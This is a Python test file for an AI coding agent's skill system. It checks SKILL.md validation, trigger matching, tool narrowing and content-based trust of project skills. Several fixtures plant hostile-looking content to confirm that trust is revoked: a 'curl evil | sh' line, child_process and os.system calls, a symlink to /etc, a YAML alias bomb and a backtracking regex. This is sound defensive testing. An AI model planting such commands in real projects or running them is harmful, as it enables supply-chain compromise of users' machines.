"""Skills: SKILL.md folders found, validated, offered, activated (by the model or a trigger), narrowing the tools,
and trusted before a project's own are used. Parsing and matching in-process; the acceptance path through the
real CLI against the fake model server."""

import json
import os
import time

import pytest

from conftest import tool_call
from xzatoma_store import Store
from xzatoma_skills import (ActivateSkill, Skill, SkillProblem, SkillState, discover_skills, match_triggers,
                            parse_skill, skill_catalog)
from xzatoma_tools import ToolContext, build_registry

GOOD = """---
name: x
description: Count the words of text files. Use when asked for word counts.
triggers: [wordcount, "/how many words/"]
allowed-tools: read_file grep
---
# Words
Read the file with read_file, then count. SKILL-BODY-MARK
"""


def skill_dir(root, name="x", text=GOOD, where=".agents/skills"):
    d = root / where / name
    d.mkdir(parents=True, exist_ok=True)
    (d / "SKILL.md").write_text(text)
    return d


def project(root):
    return [("project", str(root), rel, rel) for rel in (".xzatoma/skills", ".agents/skills")]


# ---- parsing: every way a SKILL.md can be wrong is named, with its file (and line where known) ----

@pytest.mark.parametrize("text,reason", [
    ("# no front matter\n", "no YAML front matter"),
    ("---\nname: x\ndescription: d\n", "no closing '---' line"),
    ("---\nname: x\ndescription: [unclosed\n---\n", "s/x/SKILL.md:3: invalid YAML"),
    ("---\n- a list\n---\n", "must be a mapping"),
    ("---\ndescription: d\n---\n", "missing 'name'"),
    ("---\nname: Bad_Name\ndescription: d\n---\n", "must be 1-64 lowercase letters"),
    ("---\nname: y\ndescription: d\n---\n", "differs from its folder's name 'x'"),
    ("---\nname: x\n---\nbody\n", "missing 'description'"),
    ("---\nname: x\ndescription: d\ntriggers: [\"/(unclosed/\"]\n---\n", "is not a valid regular expression"),
    ("---\nname: x\ndescription: d\ntriggers: %s\n---\n" % json.dumps(["k%d" % i for i in range(21)]),
     "21 triggers, over the 20"),
    ("---\nname: x\ndescription: d\nallowed-tools: {a: 1}\n---\n", "'allowed-tools' must be a list"),
    ("---\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b]\n"
     "name: x\ndescription: d\n---\n", "aliases (*name) are not allowed"),
    ("---\nname: x\ndescription: d\n" + "k: " + "[" * 5000 + "\n---\n", "front matter"),
])
def test_invalid_skill_md_says_where_and_why(text, reason):
    with pytest.raises(SkillProblem) as err:
        parse_skill(text.encode(), "x", "s/x/SKILL.md")
    assert reason in str(err.value) and str(err.value).startswith("s/x/SKILL.md")


def test_a_good_skill_and_what_its_author_is_warned_about():
    fields, warnings = parse_skill(GOOD.encode(), "x", "s")
    assert fields["name"] == "x" and fields["triggers"] == ["wordcount", "/how many words/"]
    assert fields["allowed_tools"] == {"read_file", "grep"} and fields["body"].endswith("SKILL-BODY-MARK")
    assert warnings == []
    text = "---\nname: x\ndescription: d\nallowed-tools: Read, Grep, Bash(git status:*), Nope\nmodel: big\n---\n"
    fields, warnings = parse_skill(text.encode(), "x", "s")
    assert fields["allowed_tools"] == {"read_file", "grep"}  # Claude's names read as ours; the rest fail closed
    assert any("Bash(git status:*)" in w and "not allowed" in w for w in warnings)
    assert any("'Nope' is not a tool" in w for w in warnings)
    assert any("unknown front matter key 'model'" in w for w in warnings)
    assert any("the body is empty" in w for w in warnings)


def test_discovery_precedence_links_and_strays_are_reported(tmp_path):
    skill_dir(tmp_path)
    skill_dir(tmp_path, text=GOOD.replace("Count the words of text files. Use when asked for word counts.", "Theirs"), where=".xzatoma/skills")
    skill_dir(tmp_path, "broken", "---\nname: broken\n---\n")
    (tmp_path / ".agents/skills/notes.md").write_text("# a skill written as a file\n")
    (tmp_path / ".agents/skills/empty").mkdir()
    outside = tmp_path.parent / (tmp_path.name + "-outside")
    skill_dir(outside, "away", GOOD.replace("name: x", "name: away"), where=".")
    os.symlink(outside / "away", tmp_path / ".agents/skills/away")
    os.mkfifo(tmp_path / ".agents/skills/empty/SKILL.md")  # never opened: the discovery would hang on it
    started = time.monotonic()
    skills, problems = discover_skills(project(tmp_path))
    assert time.monotonic() - started < 5
    assert [(s.name, s.description, s.shown) for s in skills] == [("x", "Theirs", ".xzatoma/skills/x/SKILL.md")]
    said = {p.path: (p.level, p.reason) for p in problems}
    assert said[".agents/skills/x/SKILL.md"] == ("warning", "skill 'x' is already defined by "
                                                            ".xzatoma/skills/x/SKILL.md, which is used")
    assert "missing 'description'" in said[".agents/skills/broken/SKILL.md"][1]
    assert "move it to notes/SKILL.md" in said[".agents/skills/notes.md"][1]
    assert "leads outside" in said[".agents/skills/away"][1]
    assert "FIFO" in said[".agents/skills/empty/SKILL.md"][1] or "not a regular" in said[".agents/skills/empty/SKILL.md"][1]


# ---- triggers, catalog, narrowing ----

def test_triggers_match_whole_words_and_a_catastrophic_regex_cannot_stall(tmp_path):
    x = Skill("x", "d", "b", "project", str(tmp_path), "s", triggers=["review", "/how many (words|lines)/"])
    slow = Skill("slow", "d", "b", "project", str(tmp_path), "s", triggers=["/^(a+)+$/"])
    assert [s.name for s, _ in match_triggers([x], "Please REVIEW this")[0]] == ["x"]
    assert match_triggers([x], "a preview of it")[0] == []  # a keyword is a word, not any substring
    assert match_triggers([x], "How Many Lines are there?")[0][0][1] == "/how many (words|lines)/"
    started, given_up = time.monotonic(), set()
    matched, problems = match_triggers([slow, x], "a" * 40 + "!" + " review", seconds=0.5, given_up=given_up)
    assert time.monotonic() - started < 5
    assert [s.name for s, _ in matched] == ["x"]
    assert len(problems) == 1 and "skill slow" in problems[0] and "backtrack" in problems[0]
    assert given_up == {"slow"} and match_triggers([slow], "a" * 40 + "!", given_up=given_up) == ([], [])


def test_the_trigger_time_limit_is_for_all_the_skills_of_a_request_together(tmp_path):
    """Round 18d: 2 s per skill, and 15 skills with a trigger that backtracks stalled a run for 30 s."""
    slow = [Skill("slow%d" % i, "d", "b", "project", str(tmp_path), "s", triggers=["/^(a+)+$/"]) for i in range(8)]
    x = Skill("x", "d", "b", "project", str(tmp_path), "s", triggers=["review"])
    started = time.monotonic()
    matched, problems = match_triggers(slow + [x], "a" * 40 + "!" + " review", seconds=0.5)
    assert time.monotonic() - started < 2.5  # one budget (and the worker's start), not eight
    assert [s.name for s, _ in matched] == ["x"]
    assert "skill slow0" in problems[0] and "were not tried for this request" in problems[-1], problems


def test_one_discovery_reads_a_bounded_amount_of_all_the_skills(tmp_path, monkeypatch):
    import xzatoma_skills
    monkeypatch.setattr(xzatoma_skills, "MAX_SKILLS_BYTES", 100 << 10)
    for name in ("a", "b"):
        d = skill_dir(tmp_path, name, GOOD.replace("name: x", "name: " + name))
        (d / "blob.bin").write_bytes(b"\1" * (80 << 10))
    skills, problems = discover_skills(project(tmp_path))
    assert [s.name for s in skills] == ["a"]
    assert problems[0].path == ".agents/skills/b/SKILL.md" and "in all; this one was not read" in problems[0].reason


def test_the_catalog_is_capped_and_says_what_it_left_out(tmp_path):
    skills = [Skill("s%02d" % i, "does thing number %d " % i + "in detail " * 10, "b", "user", str(tmp_path), "s")
              for i in range(40)]
    full = skill_catalog(skills, 100000)
    assert full.count("\n- s") == 40 and "activate_skill" in full
    small = skill_catalog(skills, 400)  # about 1,600 characters
    assert len(small) <= 1700 and "- s00: does thing number 0" in small
    assert "no room for their descriptions" in small and "more not listed" in small
    assert skill_catalog([], 1000) == ""


def test_allowed_tools_narrow_the_registry_and_only_ever_narrow(tmp_path):
    (tmp_path / "a.txt").write_text("hi\n")
    reader = Skill("reader", "d", "READ-ONLY RULES", "user", str(tmp_path), "s", allowed_tools=frozenset(
        {"read_file", "grep", "write_file"}))
    grepper = Skill("grepper", "d", "b", "user", str(tmp_path), "s", allowed_tools=frozenset({"grep", "terminal"}))
    free = Skill("free", "d", "b", "user", str(tmp_path), "s")
    state = SkillState([reader, grepper, free])
    reg = build_registry("write", ToolContext(str(tmp_path), {}), extra=[ActivateSkill(state)], skills=state)
    offered = lambda: sorted(d["name"] for d in reg.definitions())  # noqa: E731
    assert "terminal" in offered() and "write_file" in offered()
    result = reg.execute("activate_skill", {"name": "reader"})
    assert result.success and "READ-ONLY RULES" in result.output and "only these tools" in result.output
    assert offered() == ["activate_skill", "grep", "read_file", "write_file"]
    refused = reg.execute("terminal", {"command": "true"})
    assert not refused.success and "not allowed while skill reader is active" in refused.error
    reg.execute("activate_skill", {"name": "free"})  # no allowed-tools: narrows nothing, widens nothing
    assert offered() == ["activate_skill", "grep", "read_file", "write_file"]
    reg.execute("activate_skill", {"name": "grepper"})  # both hold: only what both allow
    assert offered() == ["activate_skill", "grep"]
    assert "no skill 'nope'" in reg.execute("activate_skill", {"name": "nope"}).error
    state.reset()
    assert "terminal" in offered()


def test_activate_skill_reads_the_skills_files_and_nothing_beside_them(tmp_path):
    d = skill_dir(tmp_path / "skills", where=".")
    (d / "ref.md").write_text("REFERENCE TEXT\n")
    (tmp_path / "secret.txt").write_text("NOT FOR THE SKILL\n")
    os.symlink(tmp_path / "secret.txt", d / "leak.md")
    skills, problems = discover_skills([("user", str(tmp_path / "skills"), ".", "~/skills")])
    assert problems == [] and skills[0].resources == ["ref.md"]  # a link out of the folder is not one of its files
    reg = build_registry("planning", ToolContext(str(tmp_path), {}), extra=[ActivateSkill(SkillState(skills))])
    assert reg.execute("activate_skill", {"name": "x", "file": "ref.md"}).output == "REFERENCE TEXT\n"
    for path in ("leak.md", "../secret.txt", str(tmp_path / "secret.txt")):
        result = reg.execute("activate_skill", {"name": "x", "file": path})
        assert not result.success and "NOT FOR THE SKILL" not in (result.output or "")


def test_trust_is_for_the_content_a_change_needs_it_again(tmp_path):
    d = skill_dir(tmp_path)
    store = Store(str(tmp_path / "db.sqlite")).open()
    try:
        skill = discover_skills(project(tmp_path))[0][0]
        assert store.trust_state(skill.directory, "skill", skill.digest) == "untrusted"
        store.trust_file(skill.directory, "skill", skill.digest)
        assert store.trust_state(skill.directory, "skill", skill.digest) == "trusted"
        (d / "scripts").mkdir()
        (d / "scripts" / "run.sh").write_text("echo planted\n")  # a file beside SKILL.md changes it too
        again = discover_skills(project(tmp_path))[0][0]
        assert again.digest != skill.digest
        assert store.trust_state(again.directory, "skill", again.digest) == "changed"
        assert [r["kind"] for r in store.trusted_files()] == ["skill"]
        assert store.untrust_file(skill.directory, "skill") and not store.untrust_file(skill.directory, "skill")
    finally:
        store.close()


# ---- acceptance: the real CLI ----

def test_skills_list_validate_show_and_trust(cli):
    skill_dir(cli.workdir)
    (skill_dir(cli.workdir) / "ref.md").write_text("R\n")
    skill_dir(cli.workdir, "broken", "---\nname: broken\n---\n")
    r = cli.run("skills", "list")
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines()[0].split() == ["NAME", "SCOPE", "TRUST", "TRIGGERS", "DESCRIPTION"]
    assert r.stdout.splitlines()[1].split()[:4] == ["x", "project", "untrusted", "2"]
    assert "invalid skill .agents/skills/broken/SKILL.md: missing 'description'" in r.stderr
    r = cli.run("skills", "validate")
    assert r.returncode == 1
    assert "ok       .agents/skills/x/SKILL.md (x)" in r.stdout
    assert "error    .agents/skills/broken/SKILL.md: missing 'description'" in r.stdout
    assert cli.run("skills", "validate", cli.workdir / ".agents/skills/x").returncode == 0
    r = cli.run("skills", "show", "x")
    assert r.returncode == 0 and "allowed-tools: grep, read_file" in r.stdout and "files:         ref.md" in r.stdout
    assert "SKILL-BODY-MARK" in r.stdout and "project (untrusted)" in r.stdout
    r = cli.run("skills", "trust", "broken")
    assert r.returncode == 2 and "no valid skill named broken" in r.stderr and "missing 'description'" in r.stderr
    r = cli.run("skills", "trust", "--all")
    assert r.returncode == 0 and "trusted skill x" in r.stderr
    listed = json.loads(cli.run("skills", "list", "--json").stdout)
    assert [(s["name"], s["trust"]) for s in listed["skills"]] == [("x", "trusted")]
    assert listed["problems"][0]["path"] == ".agents/skills/broken/SKILL.md"


def test_a_project_skill_runs_only_trusted_and_its_tools_hold(cli, fake):
    cli.use(fake)
    (cli.workdir / "notes.txt").write_text("a b c\n")
    d = skill_dir(cli.workdir)
    task = "How many words are in notes.txt?"

    fake.add({"tool_calls": [tool_call("read_file", path="notes.txt")]}, {"content": "3"})
    r = cli.run("run", task)  # untrusted: headless skips it, and says so
    assert r.returncode == 0, r.stderr
    assert "skipped 1 project skill not trusted yet: x (.agents/skills/x/SKILL.md)" in r.stderr
    assert "xzatoma skills trust x" in r.stderr
    sent = json.dumps(fake.model_requests()[-1]["body"]["messages"])
    assert "SKILL-BODY-MARK" not in sent and "Count the words" not in sent

    assert cli.run("skills", "trust", "x").returncode == 0
    n = len(fake.model_requests())
    fake.add({"tool_calls": [tool_call("terminal", command="wc -w notes.txt")]},
             {"tool_calls": [tool_call("read_file", path="notes.txt")]}, {"content": "3 words"})
    r = cli.run("run", "--json", task)  # the trigger matches: activated before the first model call
    assert r.returncode == 0, r.stderr
    assert "skill x activated (trigger /how many words/)" in r.stderr
    first = fake.model_requests()[n]["body"]
    env = first["messages"][1]["content"]
    assert "- x: Count the words of text files" in env and "activate_skill" in env
    assert "SKILL-BODY-MARK" in first["messages"][3]["content"]
    assert sorted(t["function"]["name"] for t in first["tools"]) == ["activate_skill", "grep", "read_file",
                                                                     "update_progress"]
    results = [m["content"] for m in fake.model_requests()[-1]["body"]["messages"] if m["role"] == "tool"]
    assert results[0].startswith("Error: tool terminal is not allowed while skill x is active")
    assert json.loads(r.stdout)["answer"] == "3 words"

    n = len(fake.model_requests())
    fake.add({"tool_calls": [{"name": "activate_skill", "arguments": {"name": "x"}}]},
             {"tool_calls": [tool_call("write_file", path="count.txt", content="3")]}, {"content": "done"})
    r = cli.run("run", "Tally the words of notes.txt into count.txt")  # no trigger: the model picks it
    assert "activated (trigger" not in r.stderr
    asked = [q["body"] for q in fake.model_requests()[n:]]
    assert "write_file" in [t["function"]["name"] for t in asked[0]["tools"]]
    assert "write_file" not in [t["function"]["name"] for t in asked[1]["tools"]]
    results = [m["content"] for m in asked[-1]["messages"] if m["role"] == "tool"]
    assert "SKILL-BODY-MARK" in results[0]
    assert "not allowed while skill x is active" in results[1] and not (cli.workdir / "count.txt").exists()

    plan = cli.tmp / "plan.yaml"  # a plan's goal and instructions are its request (not the frame around them)
    plan.write_text("goal: A wordcount of notes.txt\ninstructions: [read it, count]\n")
    fake.add({"tool_calls": [tool_call("read_file", path="notes.txt")]}, {"content": "3"})
    r = cli.run("run", "--plan", plan)
    assert r.returncode == 0 and "skill x activated (trigger wordcount)" in r.stderr, r.stderr

    (d / "SKILL.md").write_text(GOOD.replace("SKILL-BODY-MARK", "CHANGED-BODY"))  # trust was for other content
    fake.add({"content": "3"})
    r = cli.run("run", task)
    assert "skipped 1 project skill not trusted (or changed since): x" in r.stderr
    assert "CHANGED-BODY" not in json.dumps(fake.model_requests()[-1]["body"])


def test_an_untrusted_project_skill_does_not_switch_off_the_persons_own(cli, fake):
    """Round 18d: a repository's untrusted skill of the same name dropped the person's own skill from the catalog
    (its narrowed allowed-tools too), with nothing said."""
    own = cli.tmp / "myskills"
    skill_dir(own, where=".", text=GOOD.replace("SKILL-BODY-MARK", "MY-OWN-MARK"))
    skill_dir(cli.workdir)
    cli.use(fake, skills={"user_dir": str(own)})
    fake.add({"content": "3"})
    r = cli.run("run", "How many words are in notes.txt?")
    assert r.returncode in (0, 3), r.stderr
    assert "your own skill x (" in r.stderr and "the project's skill of that name is not trusted" in r.stderr
    first = fake.model_requests()[0]["body"]
    sent = json.dumps(first["messages"])
    assert "MY-OWN-MARK" in sent and "SKILL-BODY-MARK" not in sent  # the person's skill, triggered
    assert sorted(t["function"]["name"] for t in first["tools"])[:3] == ["activate_skill", "grep", "read_file"]
    # listed and shown as runs use them (round 18f: list called the person's a duplicate of the project's)
    listed = json.loads(cli.run("skills", "list", "--json").stdout)
    assert [(r["scope"], r["used"]) for r in listed["skills"] if r["name"] == "x"] == [("project", False),
                                                                                        ("user", True)]
    assert not [p for p in listed["problems"] if "already defined" in p["reason"]]
    shown = cli.run("skills", "show", "x")
    assert "MY-OWN-MARK" in shown.stdout and "scope:         user" in shown.stdout
    assert "the project's skill x (.agents/skills/x/SKILL.md) is not trusted: your own is used" in shown.stderr


def trust_x_and_list(p):
    """In chat: the question about the project's skill x, answered yes, then /skills."""
    p.expect(r"This project has 1 skill not trusted yet")
    p.expect(r"x — Count the words of text files")
    p.expect(r"Trust it\? .*\[y/N\] > ")
    p.line("y")
    p.expect(r"\[PLANNING\]\[SAFE\] >> ")
    p.line("/skills")


def test_chat_asks_once_to_trust_and_lists_skills(chat, cli, fake):
    skill_dir(cli.workdir)
    fake.add({"content": "counted"})
    p = chat()
    trust_x_and_list(p)
    p.expect(r"x\s+project\s+usable\s+Count the words")
    p.line("wordcount please")
    p.expect(r"skill x activated \(trigger wordcount\)")
    p.expect(r"counted")
    p.line("/skills")
    p.expect(r"x\s+project\s+active")
    p.expect(r"\[PLANNING\]\[SAFE\] >> ")
    p.eof()
    assert p.wait() == 0
    p = chat()  # trusted now: not asked again
    p.expect(r"\[PLANNING\]\[SAFE\] >> ")
    p.eof()
    assert p.wait() == 0 and "not trusted yet" not in p.seen


# ---- the digest trust is given to: every entry of the folder, and what its links lead to (round 18b) ----

def _lint_skill(root):
    """A project skill with the places a digest once left out: dependency and cache directories, a link to a file
    elsewhere in the project, and a link to a directory elsewhere in it."""
    d = skill_dir(root, "lint", GOOD.replace("name: x", "name: lint"))
    for sub in ("node_modules/helper", "__pycache__", ".venv/bin", ".tox", ".git"):
        (d / sub).mkdir(parents=True)
    (d / "node_modules/helper/index.js").write_text("console.log('benign');\n")
    (d / "__pycache__/check.cpython-311.pyc").write_bytes(b"benign")
    (d / ".venv/bin/python").write_text("#!/bin/sh\n")
    (d / ".tox/log").write_text("x\n")
    (d / ".git/HEAD").write_text("ref: refs/heads/main\n")
    (d / "run.sh").write_text("echo run\n")
    (root / "tools").mkdir()
    (root / "tools/hook.sh").write_text("echo benign\n")
    (root / "tools/other.sh").write_text("echo benign\n")
    (root / "shared/lib").mkdir(parents=True)
    (root / "shared/lib/util.py").write_text("X = 1\n")
    os.symlink("../../../tools/hook.sh", d / "hook.sh")
    os.symlink("../../../shared", d / "shared")
    return d


def _one(root, name="lint"):
    skills, problems = discover_skills(project(root))
    assert problems == [], problems
    return [s for s in skills if s.name == name][0]


@pytest.mark.parametrize("change", [
    lambda d, root: (d / "node_modules/helper/index.js").write_text("require('child_process').execSync('x');\n"),
    lambda d, root: (d / "__pycache__/check.cpython-311.pyc").write_bytes(b"planted"),
    lambda d, root: (d / ".venv/bin/python").write_text("#!/bin/sh\ncurl evil | sh\n"),
    lambda d, root: (d / ".tox/log").write_text("y\n"),
    lambda d, root: (d / ".git/hooks").mkdir(),
    lambda d, root: (d / "__pycache__/new.pyc").write_bytes(b""),
    lambda d, root: os.chmod(d / "run.sh", 0o755),  # the executable bit alone
    lambda d, root: os.rename(d / "run.sh", d / "run2.sh"),  # a name alone
    lambda d, root: (root / "tools/hook.sh").write_text("touch MARKER\n"),  # what an in-tree link leads to
    lambda d, root: (os.unlink(d / "hook.sh"), os.symlink("../../../tools/other.sh", d / "hook.sh")),  # same bytes
    lambda d, root: (root / "shared/lib/util.py").write_text("import os; os.system('x')\n"),  # through a dir link
    lambda d, root: (root / "shared/lib/more.py").write_text(""),
], ids=["node_modules", "pycache", "venv", "tox", "git", "new-empty-file", "mode", "rename", "link-target-content",
        "link-text", "dir-link-content", "dir-link-new-file"])
def test_any_change_in_a_skill_folder_changes_its_digest(tmp_path, change):
    d = _lint_skill(tmp_path)
    before = _one(tmp_path)
    assert before.digest and before.untrustable is None
    assert _one(tmp_path).digest == before.digest  # the same content: the same digest
    change(d, tmp_path)
    after = _one(tmp_path)
    assert after.untrustable is None and after.digest != before.digest


def test_a_skill_whose_content_could_change_unseen_cannot_be_trusted(tmp_path, monkeypatch):
    import xzatoma_skills
    outside = tmp_path.parent / (tmp_path.name + "-outside")
    outside.mkdir()
    (outside / "hook.sh").write_text("echo hi\n")
    root = tmp_path / "p"
    root.mkdir()
    d = skill_dir(root, "lint", GOOD.replace("name: x", "name: lint"))
    os.symlink(outside / "hook.sh", d / "hook.sh")
    skill = _one(root)
    assert skill.digest is None and skill.untrustable.startswith(".agents/skills/lint/hook.sh links outside the "
                                                                 "project (to %s)" % (outside / "hook.sh"))
    assert "\n" not in skill.untrustable
    os.unlink(d / "hook.sh")
    os.symlink("../../../../%s/hook.sh" % outside.name, d / "hook.sh")  # relative, climbing out
    assert "links outside the project" in _one(root).untrustable
    os.unlink(d / "hook.sh")
    (d / "deep").mkdir()
    os.symlink("/etc", d / "deep" / "etc")  # a link lower down, to a directory
    assert _one(root).untrustable.startswith(".agents/skills/lint/deep/etc links outside the project")
    os.unlink(d / "deep" / "etc")
    os.symlink("loop-b", d / "loop-a")
    os.symlink("loop-a", d / "loop-b")
    assert "too many levels of symbolic links" in _one(root).untrustable
    os.unlink(d / "loop-a")
    os.unlink(d / "loop-b")
    assert _one(root).untrustable is None
    monkeypatch.setattr(xzatoma_skills, "MAX_SKILL_FILES", 50)
    (d / "node_modules").mkdir()
    for i in range(60):
        (d / "node_modules" / ("m%d.js" % i)).write_text("")
    assert _one(root).untrustable == "its folder holds more than 50 entries (counting what its links lead to)"
    monkeypatch.setattr(xzatoma_skills, "MAX_SKILL_FILES", 1000)
    monkeypatch.setattr(xzatoma_skills, "MAX_SKILL_FOLDER_BYTES", 1000)
    (d / "node_modules" / "big.js").write_bytes(b"x" * 2000)
    assert _one(root).untrustable.startswith("its folder holds more than 1000 B")
    monkeypatch.setattr(xzatoma_skills, "MAX_SKILL_FOLDER_BYTES", 32 << 20)
    deep = d / "a" / "b" / "c" / "d"
    deep.mkdir(parents=True)
    monkeypatch.setattr(xzatoma_skills, "MAX_SKILL_DEPTH", 3)
    assert _one(root).untrustable == ".agents/skills/lint/a/b/c is more than 3 directories deep"


def test_links_back_into_the_project_end_and_stay_bounded(tmp_path):
    d = skill_dir(tmp_path, "lint", GOOD.replace("name: x", "name: lint"))
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    os.symlink("../b", tmp_path / "a" / "to-b")  # two directories linking to each other
    os.symlink("../a", tmp_path / "b" / "to-a")
    os.symlink("../../../a", d / "a")
    os.symlink(".", d / "self")  # the folder itself
    os.symlink("../../..", d / "root")  # the whole project, which holds the skill
    started = time.monotonic()
    skill = _one(tmp_path)
    assert time.monotonic() - started < 5
    assert skill.untrustable is None and skill.digest
    (tmp_path / "b" / "new").write_text("")  # reached through a link of a link
    assert _one(tmp_path).digest != skill.digest


def test_cli_trust_ends_with_a_change_anywhere_in_the_folder_and_a_link_out_cannot_be_trusted(cli, fake):
    cli.use(fake)
    d = _lint_skill(cli.workdir)
    trust = lambda: {s["name"]: (s["trust"], s["trust_problem"])  # noqa: E731
                     for s in json.loads(cli.run("skills", "list", "--json").stdout)["skills"]}
    r = cli.run("skills", "trust", "lint")
    assert r.returncode == 0 and "trusted skill lint" in r.stderr and r.stdout == ""
    assert trust() == {"lint": ("trusted", None)}
    (d / "node_modules/helper/index.js").write_text("require('child_process').execSync('touch MARKER');\n")
    assert trust() == {"lint": ("changed", None)}
    fake.add({"content": "done"})
    r = cli.run("run", "wordcount please")  # a headless run skips it, and says so
    assert r.returncode == 0, r.stderr
    assert "skipped 1 project skill not trusted (or changed since): lint" in r.stderr
    assert "activated" not in r.stderr and "SKILL-BODY-MARK" not in json.dumps(fake.model_requests()[-1]["body"])
    assert cli.run("skills", "trust", "lint").returncode == 0 and trust() == {"lint": ("trusted", None)}
    (cli.workdir / "tools/hook.sh").write_text("touch MARKER\n")  # outside the folder, where its link leads
    assert trust() == {"lint": ("changed", None)}

    outside = cli.tmp / "elsewhere.sh"
    outside.write_text("echo hi\n")
    os.unlink(d / "hook.sh")
    os.symlink(outside, d / "hook.sh")
    why = ".agents/skills/lint/hook.sh links outside the project (to %s): what is there can change while the " \
          "project does not" % outside
    assert trust() == {"lint": ("untrustable", why)}
    r = cli.run("skills", "list")
    assert r.returncode == 0 and r.stdout.splitlines()[1].split()[:3] == ["lint", "project", "untrustable"]
    assert "skill lint cannot be trusted: " + why in r.stderr and why not in r.stdout
    r = cli.run("skills", "trust", "lint")
    assert r.returncode == 1 and r.stdout == ""
    assert "error: skill lint (.agents/skills/lint/SKILL.md) cannot be trusted: " + why in r.stderr
    assert "trusted skill" not in r.stderr
    assert cli.run("skills", "trust", "--all").returncode == 1
    r = cli.run("skills", "show", "lint")
    assert r.returncode == 0 and "project (untrustable)" in r.stdout and "cannot be trusted: " + why in r.stdout
    fake.add({"content": "done"})
    r = cli.run("run", "wordcount please")
    assert r.returncode == 0, r.stderr
    assert "skill lint (.agents/skills/lint/SKILL.md) is not used: it cannot be trusted: " + why in r.stderr
    assert "activated" not in r.stderr and "SKILL-BODY-MARK" not in json.dumps(fake.model_requests()[-1]["body"])


def test_chat_does_not_ask_to_trust_what_cannot_be_trusted_and_says_why(chat, cli, fake):
    skill_dir(cli.workdir)
    d = skill_dir(cli.workdir, "lint", GOOD.replace("name: x", "name: lint").replace("wordcount", "lintnow"))
    outside = cli.tmp / "elsewhere.sh"
    outside.write_text("echo hi\n")
    os.symlink(outside, d / "hook.sh")
    p = chat()
    p.expect(r"skill lint \(\.agents/skills/lint/SKILL\.md\) is not used: it cannot be trusted: "
             r"\.agents/skills/lint/hook\.sh links outside the project")
    trust_x_and_list(p)
    p.expect(r"lint\s+project\s+skipped: untrustable")
    p.expect(r"\[PLANNING\]\[SAFE\] >> ")
    p.eof()
    assert p.wait() == 0
    assert "lint —" not in p.seen
